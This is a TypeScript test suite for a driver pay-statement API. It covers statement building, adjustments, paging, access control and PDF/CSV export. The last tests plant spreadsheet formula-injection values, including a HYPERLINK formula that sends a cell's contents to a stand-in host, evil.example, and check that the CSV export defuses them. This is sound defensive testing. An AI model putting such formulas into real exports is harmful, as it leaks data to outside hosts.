import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, inArray } from 'drizzle-orm';
import { DEFAULT_COMPANY } from '../../../domain/company';
import { centsOf, formatDollars, parseCents, sumCents } from '../../../domain/money';
import type { Page } from '../../../domain/page';
import type { PayStatement, PayStatementSummary } from '../../../domain/pay-statement';
import { zonedLocalToIso } from '../../../domain/zoned-time';
import { payAdjustments, payStatementLines, payStatements } from '../../db/schema';
import { makeDriver, makeJob } from '../../demo/factories';
import { payStatementOf } from '../../test/pay-statement';
import { readBackPdf } from '../../test/pdf-text';
import { signedIn, type SignedIn } from '../../test/sign-in';
import { createTestApp, type TestApp } from '../../test/test-app';

/** Contractor pay statements (docs/decisions/071-contractor-pay.md), on PGlite and PostgreSQL. */
let t: TestApp;
let admin: SignedIn;
beforeAll(async () => {
  t = await createTestApp();
  admin = await signedIn(t.app, t.database.db, 'admin');
});
afterAll(() => t.close());

const ZONE = DEFAULT_COMPANY.timeZone;
const at = (local: string) => new Date(zonedLocalToIso(local, ZONE));
const call = (method: 'GET' | 'POST', url: string, payload?: object, who: SignedIn = admin) =>
  t.app.inject({ method, url, headers: who.cookie ? { cookie: who.cookie } : {}, ...(payload && { payload }) });
const build = (driverId: string, periodFrom = '2026-11-23', periodTo = '2026-11-29') =>
  call('POST', '/api/pay-statements', { driverId, periodFrom, periodTo });

/** A trip the driver finished at this wall time on the company clock, paid at `rate`. */
const completed = (driverId: string, local: string, rate: string) =>
  makeJob(t.database.db, {
    assignedDriverId: driverId,
    status: 'completed',
    jobRate: rate,
    pickupTime: at(local),
    dropoffTime: new Date(at(local).getTime() + 30 * 60_000),
    completedAt: new Date(at(local).getTime() + 30 * 60_000),
  });

async function newDriver() {
  return signedIn(t.app, t.database.db, 'driver');
}

describe('building a statement', () => {
  it("takes the driver's completed and no-show trips of the period at their job rates, each with its rider, all due on the statement's day", async () => {
    const driver = await newDriver();
    const other = await newDriver();
    const id = driver.driverId!;
    // Finished at 23:45 on Wednesday 25 November, company time (already Thursday in UTC).
    const late = await completed(id, '2026-11-25T23:15', '42.50');
    const noShow = await makeJob(t.database.db, {
      assignedDriverId: id,
      status: 'no_show',
      jobRate: '30.10',
      pickupTime: at('2026-11-24T09:00'),
      noShowAt: at('2026-11-24T09:20'),
    });
    await makeJob(t.database.db, {
      assignedDriverId: id,
      status: 'cancelled',
      jobRate: '55.00',
      pickupTime: at('2026-11-24T13:00'),
      cancelledAt: at('2026-11-24T08:00'),
    });
    await makeJob(t.database.db, {
      assignedDriverId: id,
      status: 'accepted',
      jobRate: '55.00',
      pickupTime: at('2026-11-26T13:00'),
    });
    await completed(id, '2026-11-30T10:00', '61.00'); // after the period
    await completed(other.driverId!, '2026-11-25T10:00', '77.00'); // another driver's

    const res = await build(id);
    expect(res.statusCode, res.body).toBe(201);
    const s = res.json<PayStatement>();
    expect(s).toMatchObject({
      driverId: id,
      status: 'draft',
      periodFrom: '2026-11-23',
      periodTo: '2026-11-29',
      total: '72.60',
      linesTotal: '72.60',
      adjustmentsTotal: '0.00',
    });
    expect(s.number).toMatch(/^PAY-\d{6}$/);
    // Each line is due on the statement's day: the earliest line's term (Nov 24 + 14 business days), so paying the
    // statement on time pays every trip within its own (Nov 25's would be Dec 16).
    expect(s.lines.map((l) => [l.jobId, l.amount, l.completedOn, l.dueOn])).toEqual([
      [noShow.id, '30.10', '2026-11-24', '2026-12-15'],
      [late.id, '42.50', '2026-11-25', '2026-12-15'],
    ]);
    expect(s.lines[0]!.description).toMatch(/^No-show/);
    expect(s.dueOn).toBe('2026-12-15');
    // Each line names the rider and the trip.
    expect(s.lines.map((l) => [l.riderName, l.leg, l.pickupTime])).toEqual([
      [noShow.patientName, 'outbound', at('2026-11-24T09:00').toISOString()],
      [late.patientName, 'outbound', at('2026-11-25T23:15').toISOString()],
    ]);
  });

  it('is due 2026-12-16 for trips completed on Wednesday 2026-11-25 (Thanksgiving and the weekends skipped)', async () => {
    const driver = await newDriver();
    await completed(driver.driverId!, '2026-11-25T08:00', '40.00');
    await completed(driver.driverId!, '2026-11-25T15:00', '45.25');
    const s = (await build(driver.driverId!, '2026-11-25', '2026-11-25')).json<PayStatement>();
    expect(s).toMatchObject({ dueOn: '2026-12-16', total: '85.25' });
  });

  it('refuses bad fields and a period with nothing to pay, writing nothing', async () => {
    const driver = await newDriver();
    const before = await t.database.db.$count(payStatements);
    const bad = await call('POST', '/api/pay-statements', {
      driverId: 'nobody',
      periodFrom: '2026-02-30',
      periodTo: '',
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().fieldErrors).toMatchObject({
      driverId: 'Choose a driver',
      periodFrom: 'Period start must be a valid date',
      periodTo: 'Period end is required',
    });
    const backwards = await build(driver.driverId!, '2026-11-29', '2026-11-23');
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().fieldErrors).toEqual({ periodTo: 'Period end must be on or after its start' });
    const unknown = await build('6d1f7b0e-2f59-4a55-9d5c-0a0cfa0c7c11');
    expect(unknown.statusCode).toBe(422);
    expect(unknown.json().fieldErrors).toEqual({ driverId: 'No such driver' });
    const nothing = await build(driver.driverId!);
    expect(nothing.statusCode).toBe(422);
    expect(nothing.json()).toEqual({
      message: 'No completed trips to pay for this driver and period',
      reasons: ['nothing_to_pay'],
    });
    expect(await t.database.db.$count(payStatements)).toBe(before);
    expect((await call('GET', '/api/pay-statements/6d1f7b0e-2f59-4a55-9d5c-0a0cfa0c7c11')).statusCode).toBe(404);
  });

  it('puts each trip on one statement when two builds run at once, and the totals add up to the rates', async () => {
    const driver = await newDriver();
    const rates = ['31.15', '42.07', '18.99', '55.00', '23.45', '64.31'];
    const made = [];
    for (const [i, rate] of rates.entries())
      made.push(await completed(driver.driverId!, `2026-11-2${3 + (i % 5)}T1${i}:00`, rate));
    const answers = await Promise.all([build(driver.driverId!), build(driver.driverId!)]);
    const built = answers.filter((r) => r.statusCode === 201).map((r) => r.json<PayStatement>());
    for (const r of answers) if (r.statusCode !== 201) expect(r.json().reasons).toEqual(['nothing_to_pay']);
    expect(built.length).toBeGreaterThan(0);
    const jobIds = built.flatMap((s) => s.lines.map((l) => l.jobId));
    expect(jobIds.sort()).toEqual(made.map((j) => j.id).sort());
    expect(sumCents(built.map((s) => centsOf(s.total)))).toBe(sumCents(rates.map((r) => centsOf(r))));
    const stored = await t.database.db
      .select()
      .from(payStatementLines)
      .where(
        inArray(
          payStatementLines.jobId,
          made.map((j) => j.id),
        ),
      );
    expect(stored).toHaveLength(rates.length);
  });
});

describe('adjustments and statuses', () => {
  it('changes the total with each adjustment while draft or issued, and never after payment', async () => {
    const driver = await newDriver();
    await completed(driver.driverId!, '2026-11-24T10:00', '100.00');
    const s = (await build(driver.driverId!)).json<PayStatement>();
    const toll = await call('POST', `/api/pay-statements/${s.id}/adjustments`, {
      description: 'Turnpike toll repaid',
      amount: '12.35',
    });
    expect(toll.statusCode, toll.body).toBe(201);
    expect(toll.json<PayStatement>()).toMatchObject({ total: '112.35', adjustmentsTotal: '12.35' });
    expect((await call('POST', `/api/pay-statements/${s.id}/issue`)).json()).toMatchObject({ status: 'issued' });
    const advance = await call('POST', `/api/pay-statements/${s.id}/adjustments`, {
      description: 'Fuel advance recovered',
      amount: '-40.00',
    });
    expect(advance.json<PayStatement>()).toMatchObject({ total: '72.35', adjustmentsTotal: '-27.65' });

    const before = await t.database.db.$count(payAdjustments, eq(payAdjustments.statementId, s.id));
    const bad = await call('POST', `/api/pay-statements/${s.id}/adjustments`, { description: 'x', amount: '0' });
    expect(bad.statusCode).toBe(400);
    expect(Object.keys(bad.json().fieldErrors).sort()).toEqual(['amount', 'description']);
    const tooMuch = await call('POST', `/api/pay-statements/${s.id}/adjustments`, {
      description: 'Damage deposit',
      amount: '-72.36',
    });
    expect(tooMuch.statusCode).toBe(422);
    expect(tooMuch.json().fieldErrors).toEqual({ amount: 'This deduction would take the total below zero' });
    expect(await t.database.db.$count(payAdjustments, eq(payAdjustments.statementId, s.id))).toBe(before);

    const future = await call('POST', `/api/pay-statements/${s.id}/paid`, { paidOn: '2999-01-01' });
    expect(future.json().fieldErrors).toEqual({ paidOn: 'Paid date cannot be in the future' });
    const paid = await call('POST', `/api/pay-statements/${s.id}/paid`, { paidOn: '2026-11-25' });
    expect(paid.json()).toMatchObject({ status: 'paid', paidOn: '2026-11-25', total: '72.35' });
    expect(
      (await call('POST', `/api/pay-statements/${s.id}/adjustments`, { description: 'Late toll', amount: '5.00' }))
        .statusCode,
    ).toBe(409);
    expect((await call('POST', `/api/pay-statements/${s.id}/void`)).statusCode).toBe(409);
    expect((await call('POST', `/api/pay-statements/${s.id}/issue`)).statusCode).toBe(409);
    const listed = (await call('GET', `/api/pay-statements?driverId=${driver.driverId!}&status=paid`)).json<
      Page<PayStatementSummary>
    >();
    expect(listed.items.map((x) => [x.id, x.total])).toEqual([[s.id, '72.35']]);
    expect(listed.nextCursor).toBeNull();
  });

  it('releases the trips of a void statement, so a new build takes them again', async () => {
    const driver = await newDriver();
    const job = await completed(driver.driverId!, '2026-11-27T10:00', '48.00');
    const first = (await build(driver.driverId!)).json<PayStatement>();
    expect((await build(driver.driverId!)).statusCode).toBe(422);
    const voided = await call('POST', `/api/pay-statements/${first.id}/void`);
    expect(voided.json()).toMatchObject({ status: 'void' });
    expect(voided.json().voidedAt).not.toBeNull();
    const again = await build(driver.driverId!);
    expect(again.statusCode, again.body).toBe(201);
    expect(again.json<PayStatement>().lines.map((l) => l.jobId)).toEqual([job.id]);
    expect(again.json<PayStatement>().id).not.toBe(first.id);
  });
});

describe("the driver's own statements", () => {
  it('shows a driver their issued statements only: a draft is hidden, another driver’s is not found', async () => {
    const driver = await newDriver();
    const other = await newDriver();
    await completed(driver.driverId!, '2026-11-23T10:00', '50.00');
    const draft = (await build(driver.driverId!, '2026-11-23', '2026-11-23')).json<PayStatement>();
    await completed(driver.driverId!, '2026-11-24T10:00', '60.00');
    const issued = (await build(driver.driverId!, '2026-11-24', '2026-11-24')).json<PayStatement>();
    await call('POST', `/api/pay-statements/${issued.id}/issue`);

    const mine = await call('GET', '/api/drivers/me/pay-statements', undefined, driver);
    expect(mine.statusCode).toBe(200);
    expect(mine.json<Page<PayStatementSummary>>().items.map((s) => [s.id, s.total, s.status])).toEqual([
      [issued.id, '60.00', 'issued'],
    ]);
    expect((await call('GET', `/api/pay-statements/${issued.id}`, undefined, driver)).json()).toMatchObject({
      id: issued.id,
      total: '60.00',
    });
    for (const url of [
      `/api/pay-statements/${draft.id}`,
      `/api/pay-statements/${draft.id}/statement.pdf`,
      `/api/pay-statements/${draft.id}/statement.csv`,
    ]) {
      expect((await call('GET', url, undefined, driver)).statusCode).toBe(404);
    }
    for (const url of [`/api/pay-statements/${issued.id}`, `/api/pay-statements/${issued.id}/statement.pdf`]) {
      expect((await call('GET', url, undefined, other)).statusCode).toBe(404);
    }
    expect((await call('GET', '/api/drivers/me/pay-statements', undefined, other)).json()).toEqual({
      items: [],
      nextCursor: null,
    });
    expect((await call('GET', '/api/pay-statements', undefined, driver)).statusCode).toBe(403);
  });
});

/** Every page of a list from `url` (which already has a query string), `limit` at a time, following nextCursor. */
async function allPages(url: string, limit: number, who: SignedIn = admin) {
  const pages: Page<PayStatementSummary>[] = [];
  let cursor: string | null = null;
  do {
    const res = await call(
      'GET',
      `${url}&limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
      undefined,
      who,
    );
    expect(res.statusCode, res.body).toBe(200);
    const page = res.json<Page<PayStatementSummary>>();
    pages.push(page);
    cursor = page.nextCursor;
  } while (cursor && pages.length < 10);
  return pages;
}

describe('the lists are paged (docs/decisions/035-paginated-lists.md)', () => {
  it("gives the admin's list newest created first, a page at a time, each statement once", async () => {
    const driver = await newDriver();
    const built: string[] = [];
    for (const day of ['2026-11-23', '2026-11-24', '2026-11-25', '2026-11-26', '2026-11-27']) {
      await completed(driver.driverId!, `${day}T10:00`, '20.00');
      const res = await build(driver.driverId!, day, day);
      expect(res.statusCode, res.body).toBe(201);
      built.push(res.json<PayStatement>().id);
    }
    const pages = await allPages(`/api/pay-statements?driverId=${driver.driverId!}`, 2);
    expect(pages.map((p) => p.items.length)).toEqual([2, 2, 1]);
    expect(pages[0]!.nextCursor).toEqual(expect.any(String));
    expect(pages.at(-1)!.nextCursor).toBeNull();
    const ids = pages.flatMap((p) => p.items.map((s) => s.id));
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toEqual(built.toReversed());

    // Unfiltered, the first page starts with the statement built last and the next page repeats none of it.
    const first = (await call('GET', '/api/pay-statements?limit=2')).json<Page<PayStatementSummary>>();
    expect(first.items.map((s) => s.id)).toEqual([built[4], built[3]]);
    const next = (
      await call('GET', `/api/pay-statements?limit=2&cursor=${encodeURIComponent(first.nextCursor!)}`)
    ).json<Page<PayStatementSummary>>();
    expect(next.items[0]!.id).toBe(built[2]);
  });

  it('gives a driver their own issued and paid statements the same way, drafts left out', async () => {
    const driver = await newDriver();
    const shown: string[] = [];
    for (const [i, day] of ['2026-11-23', '2026-11-24', '2026-11-25', '2026-11-26'].entries()) {
      await completed(driver.driverId!, `${day}T10:00`, '20.00');
      const s = (await build(driver.driverId!, day, day)).json<PayStatement>();
      if (i === 1) continue; // left a draft: never shown to the driver
      await call('POST', `/api/pay-statements/${s.id}/issue`);
      shown.push(s.id);
    }
    const pages = await allPages('/api/drivers/me/pay-statements?', 2, driver);
    expect(pages.map((p) => p.items.length)).toEqual([2, 1]);
    expect(pages.flatMap((p) => p.items.map((s) => s.id))).toEqual(shown.toReversed());
  });

  it('refuses a cursor it did not write and a limit out of range (400)', async () => {
    const driver = await newDriver();
    for (const url of [
      '/api/pay-statements?cursor=not-a-cursor',
      `/api/pay-statements?cursor=${Buffer.from('yesterday|nobody').toString('base64url')}`,
      '/api/pay-statements?limit=0',
      '/api/pay-statements?limit=101',
    ]) {
      const res = await call('GET', url);
      expect(res.statusCode, url).toBe(400);
    }
    expect((await call('GET', '/api/pay-statements?cursor=not-a-cursor')).json().message).toBe(
      'The page cursor is not valid',
    );
    expect(
      (await call('GET', '/api/drivers/me/pay-statements?cursor=not-a-cursor', undefined, driver)).statusCode,
    ).toBe(400);
  });
});

describe('the PDF and the CSV', () => {
  it('print the figures of the API: each line, the adjustments and the total', async () => {
    const driver = await newDriver();
    await completed(driver.driverId!, '2026-11-23T09:00', '1240.50');
    await completed(driver.driverId!, '2026-11-25T09:00', '37.05');
    const built = (await build(driver.driverId!)).json<PayStatement>();
    await call('POST', `/api/pay-statements/${built.id}/adjustments`, {
      description: '=HYPERLINK("http://evil")',
      amount: '-12.30',
    });
    await call('POST', `/api/pay-statements/${built.id}/issue`);
    const s = (await call('GET', `/api/pay-statements/${built.id}`, undefined, driver)).json<PayStatement>();
    expect(s.total).toBe('1265.25');

    const pdf = await call('GET', `/api/pay-statements/${s.id}/statement.pdf`, undefined, driver);
    expect(pdf.statusCode).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    const { text, title } = readBackPdf(pdf.rawPayload);
    expect(title).toContain(s.number);
    for (const line of s.lines) expect(text).toContain(formatDollars(centsOf(line.amount)));
    expect(text).toContain('$1,240.50');
    expect(text).toContain(formatDollars(centsOf(s.adjustments[0]!.amount, { allowNegative: true })));
    expect(text).toContain(`Total to pay: ${formatDollars(centsOf(s.total))}`);

    const csv = await call('GET', `/api/pay-statements/${s.id}/statement.csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const rows = Papa.parse<Record<string, string>>(csv.body, { header: true, skipEmptyLines: true }).data;
    const parts = rows.filter((r) => r.Kind !== 'Total');
    expect(parts).toHaveLength(3);
    expect(sumCents(parts.map((r) => parseCents(r.Amount!, { allowNegative: true })!))).toBe(centsOf(s.total));
    expect(rows.find((r) => r.Kind === 'Total')?.Amount).toBe(s.total);
    // The formula is neutralised: the cell starts with a quote, not "=".
    expect(rows.find((r) => r.Kind === 'Adjustment')?.Description).toBe(`'=HYPERLINK("http://evil")`);
  });

  it("CSV: a formula in the driver's name, even behind a line break, is defused and the rest of the name kept (docs/decisions/079-one-csv-formula-guard.md)", async () => {
    // Stored as given: the forms trim a name, but the file must not count on how a row came in.
    const fullName = '\n=HYPERLINK("https://evil.example/?q="&C2,"Open chart\nrecord")';
    const driver = await makeDriver(t.database.db, { status: 'approved', fullName });
    const id = await payStatementOf(t.app, t.database.db, admin.cookie!, driver.id);
    const adjusted = await call('POST', `/api/pay-statements/${id}/adjustments`, {
      description: '@SUM(A1:A9)\nfuel advance',
      amount: '-25.00',
    });
    expect(adjusted.statusCode, adjusted.body).toBe(201);
    const csv = await call('GET', `/api/pay-statements/${id}/statement.csv`);
    expect(csv.statusCode).toBe(200);
    const rows = Papa.parse<Record<string, string>>(csv.body, { header: true, delimiter: ',', newline: '\r\n' }).data;
    expect(rows.map((r) => r.Kind)).toEqual(['Trip', 'Adjustment', 'Total']);
    for (const row of rows) expect(row.Driver).toBe(`'${fullName}`);
    // The description is defused; the negative amount stays a number.
    expect(rows[1]).toMatchObject({ Description: "'@SUM(A1:A9)\nfuel advance", Amount: '-25.00' });
  });
});
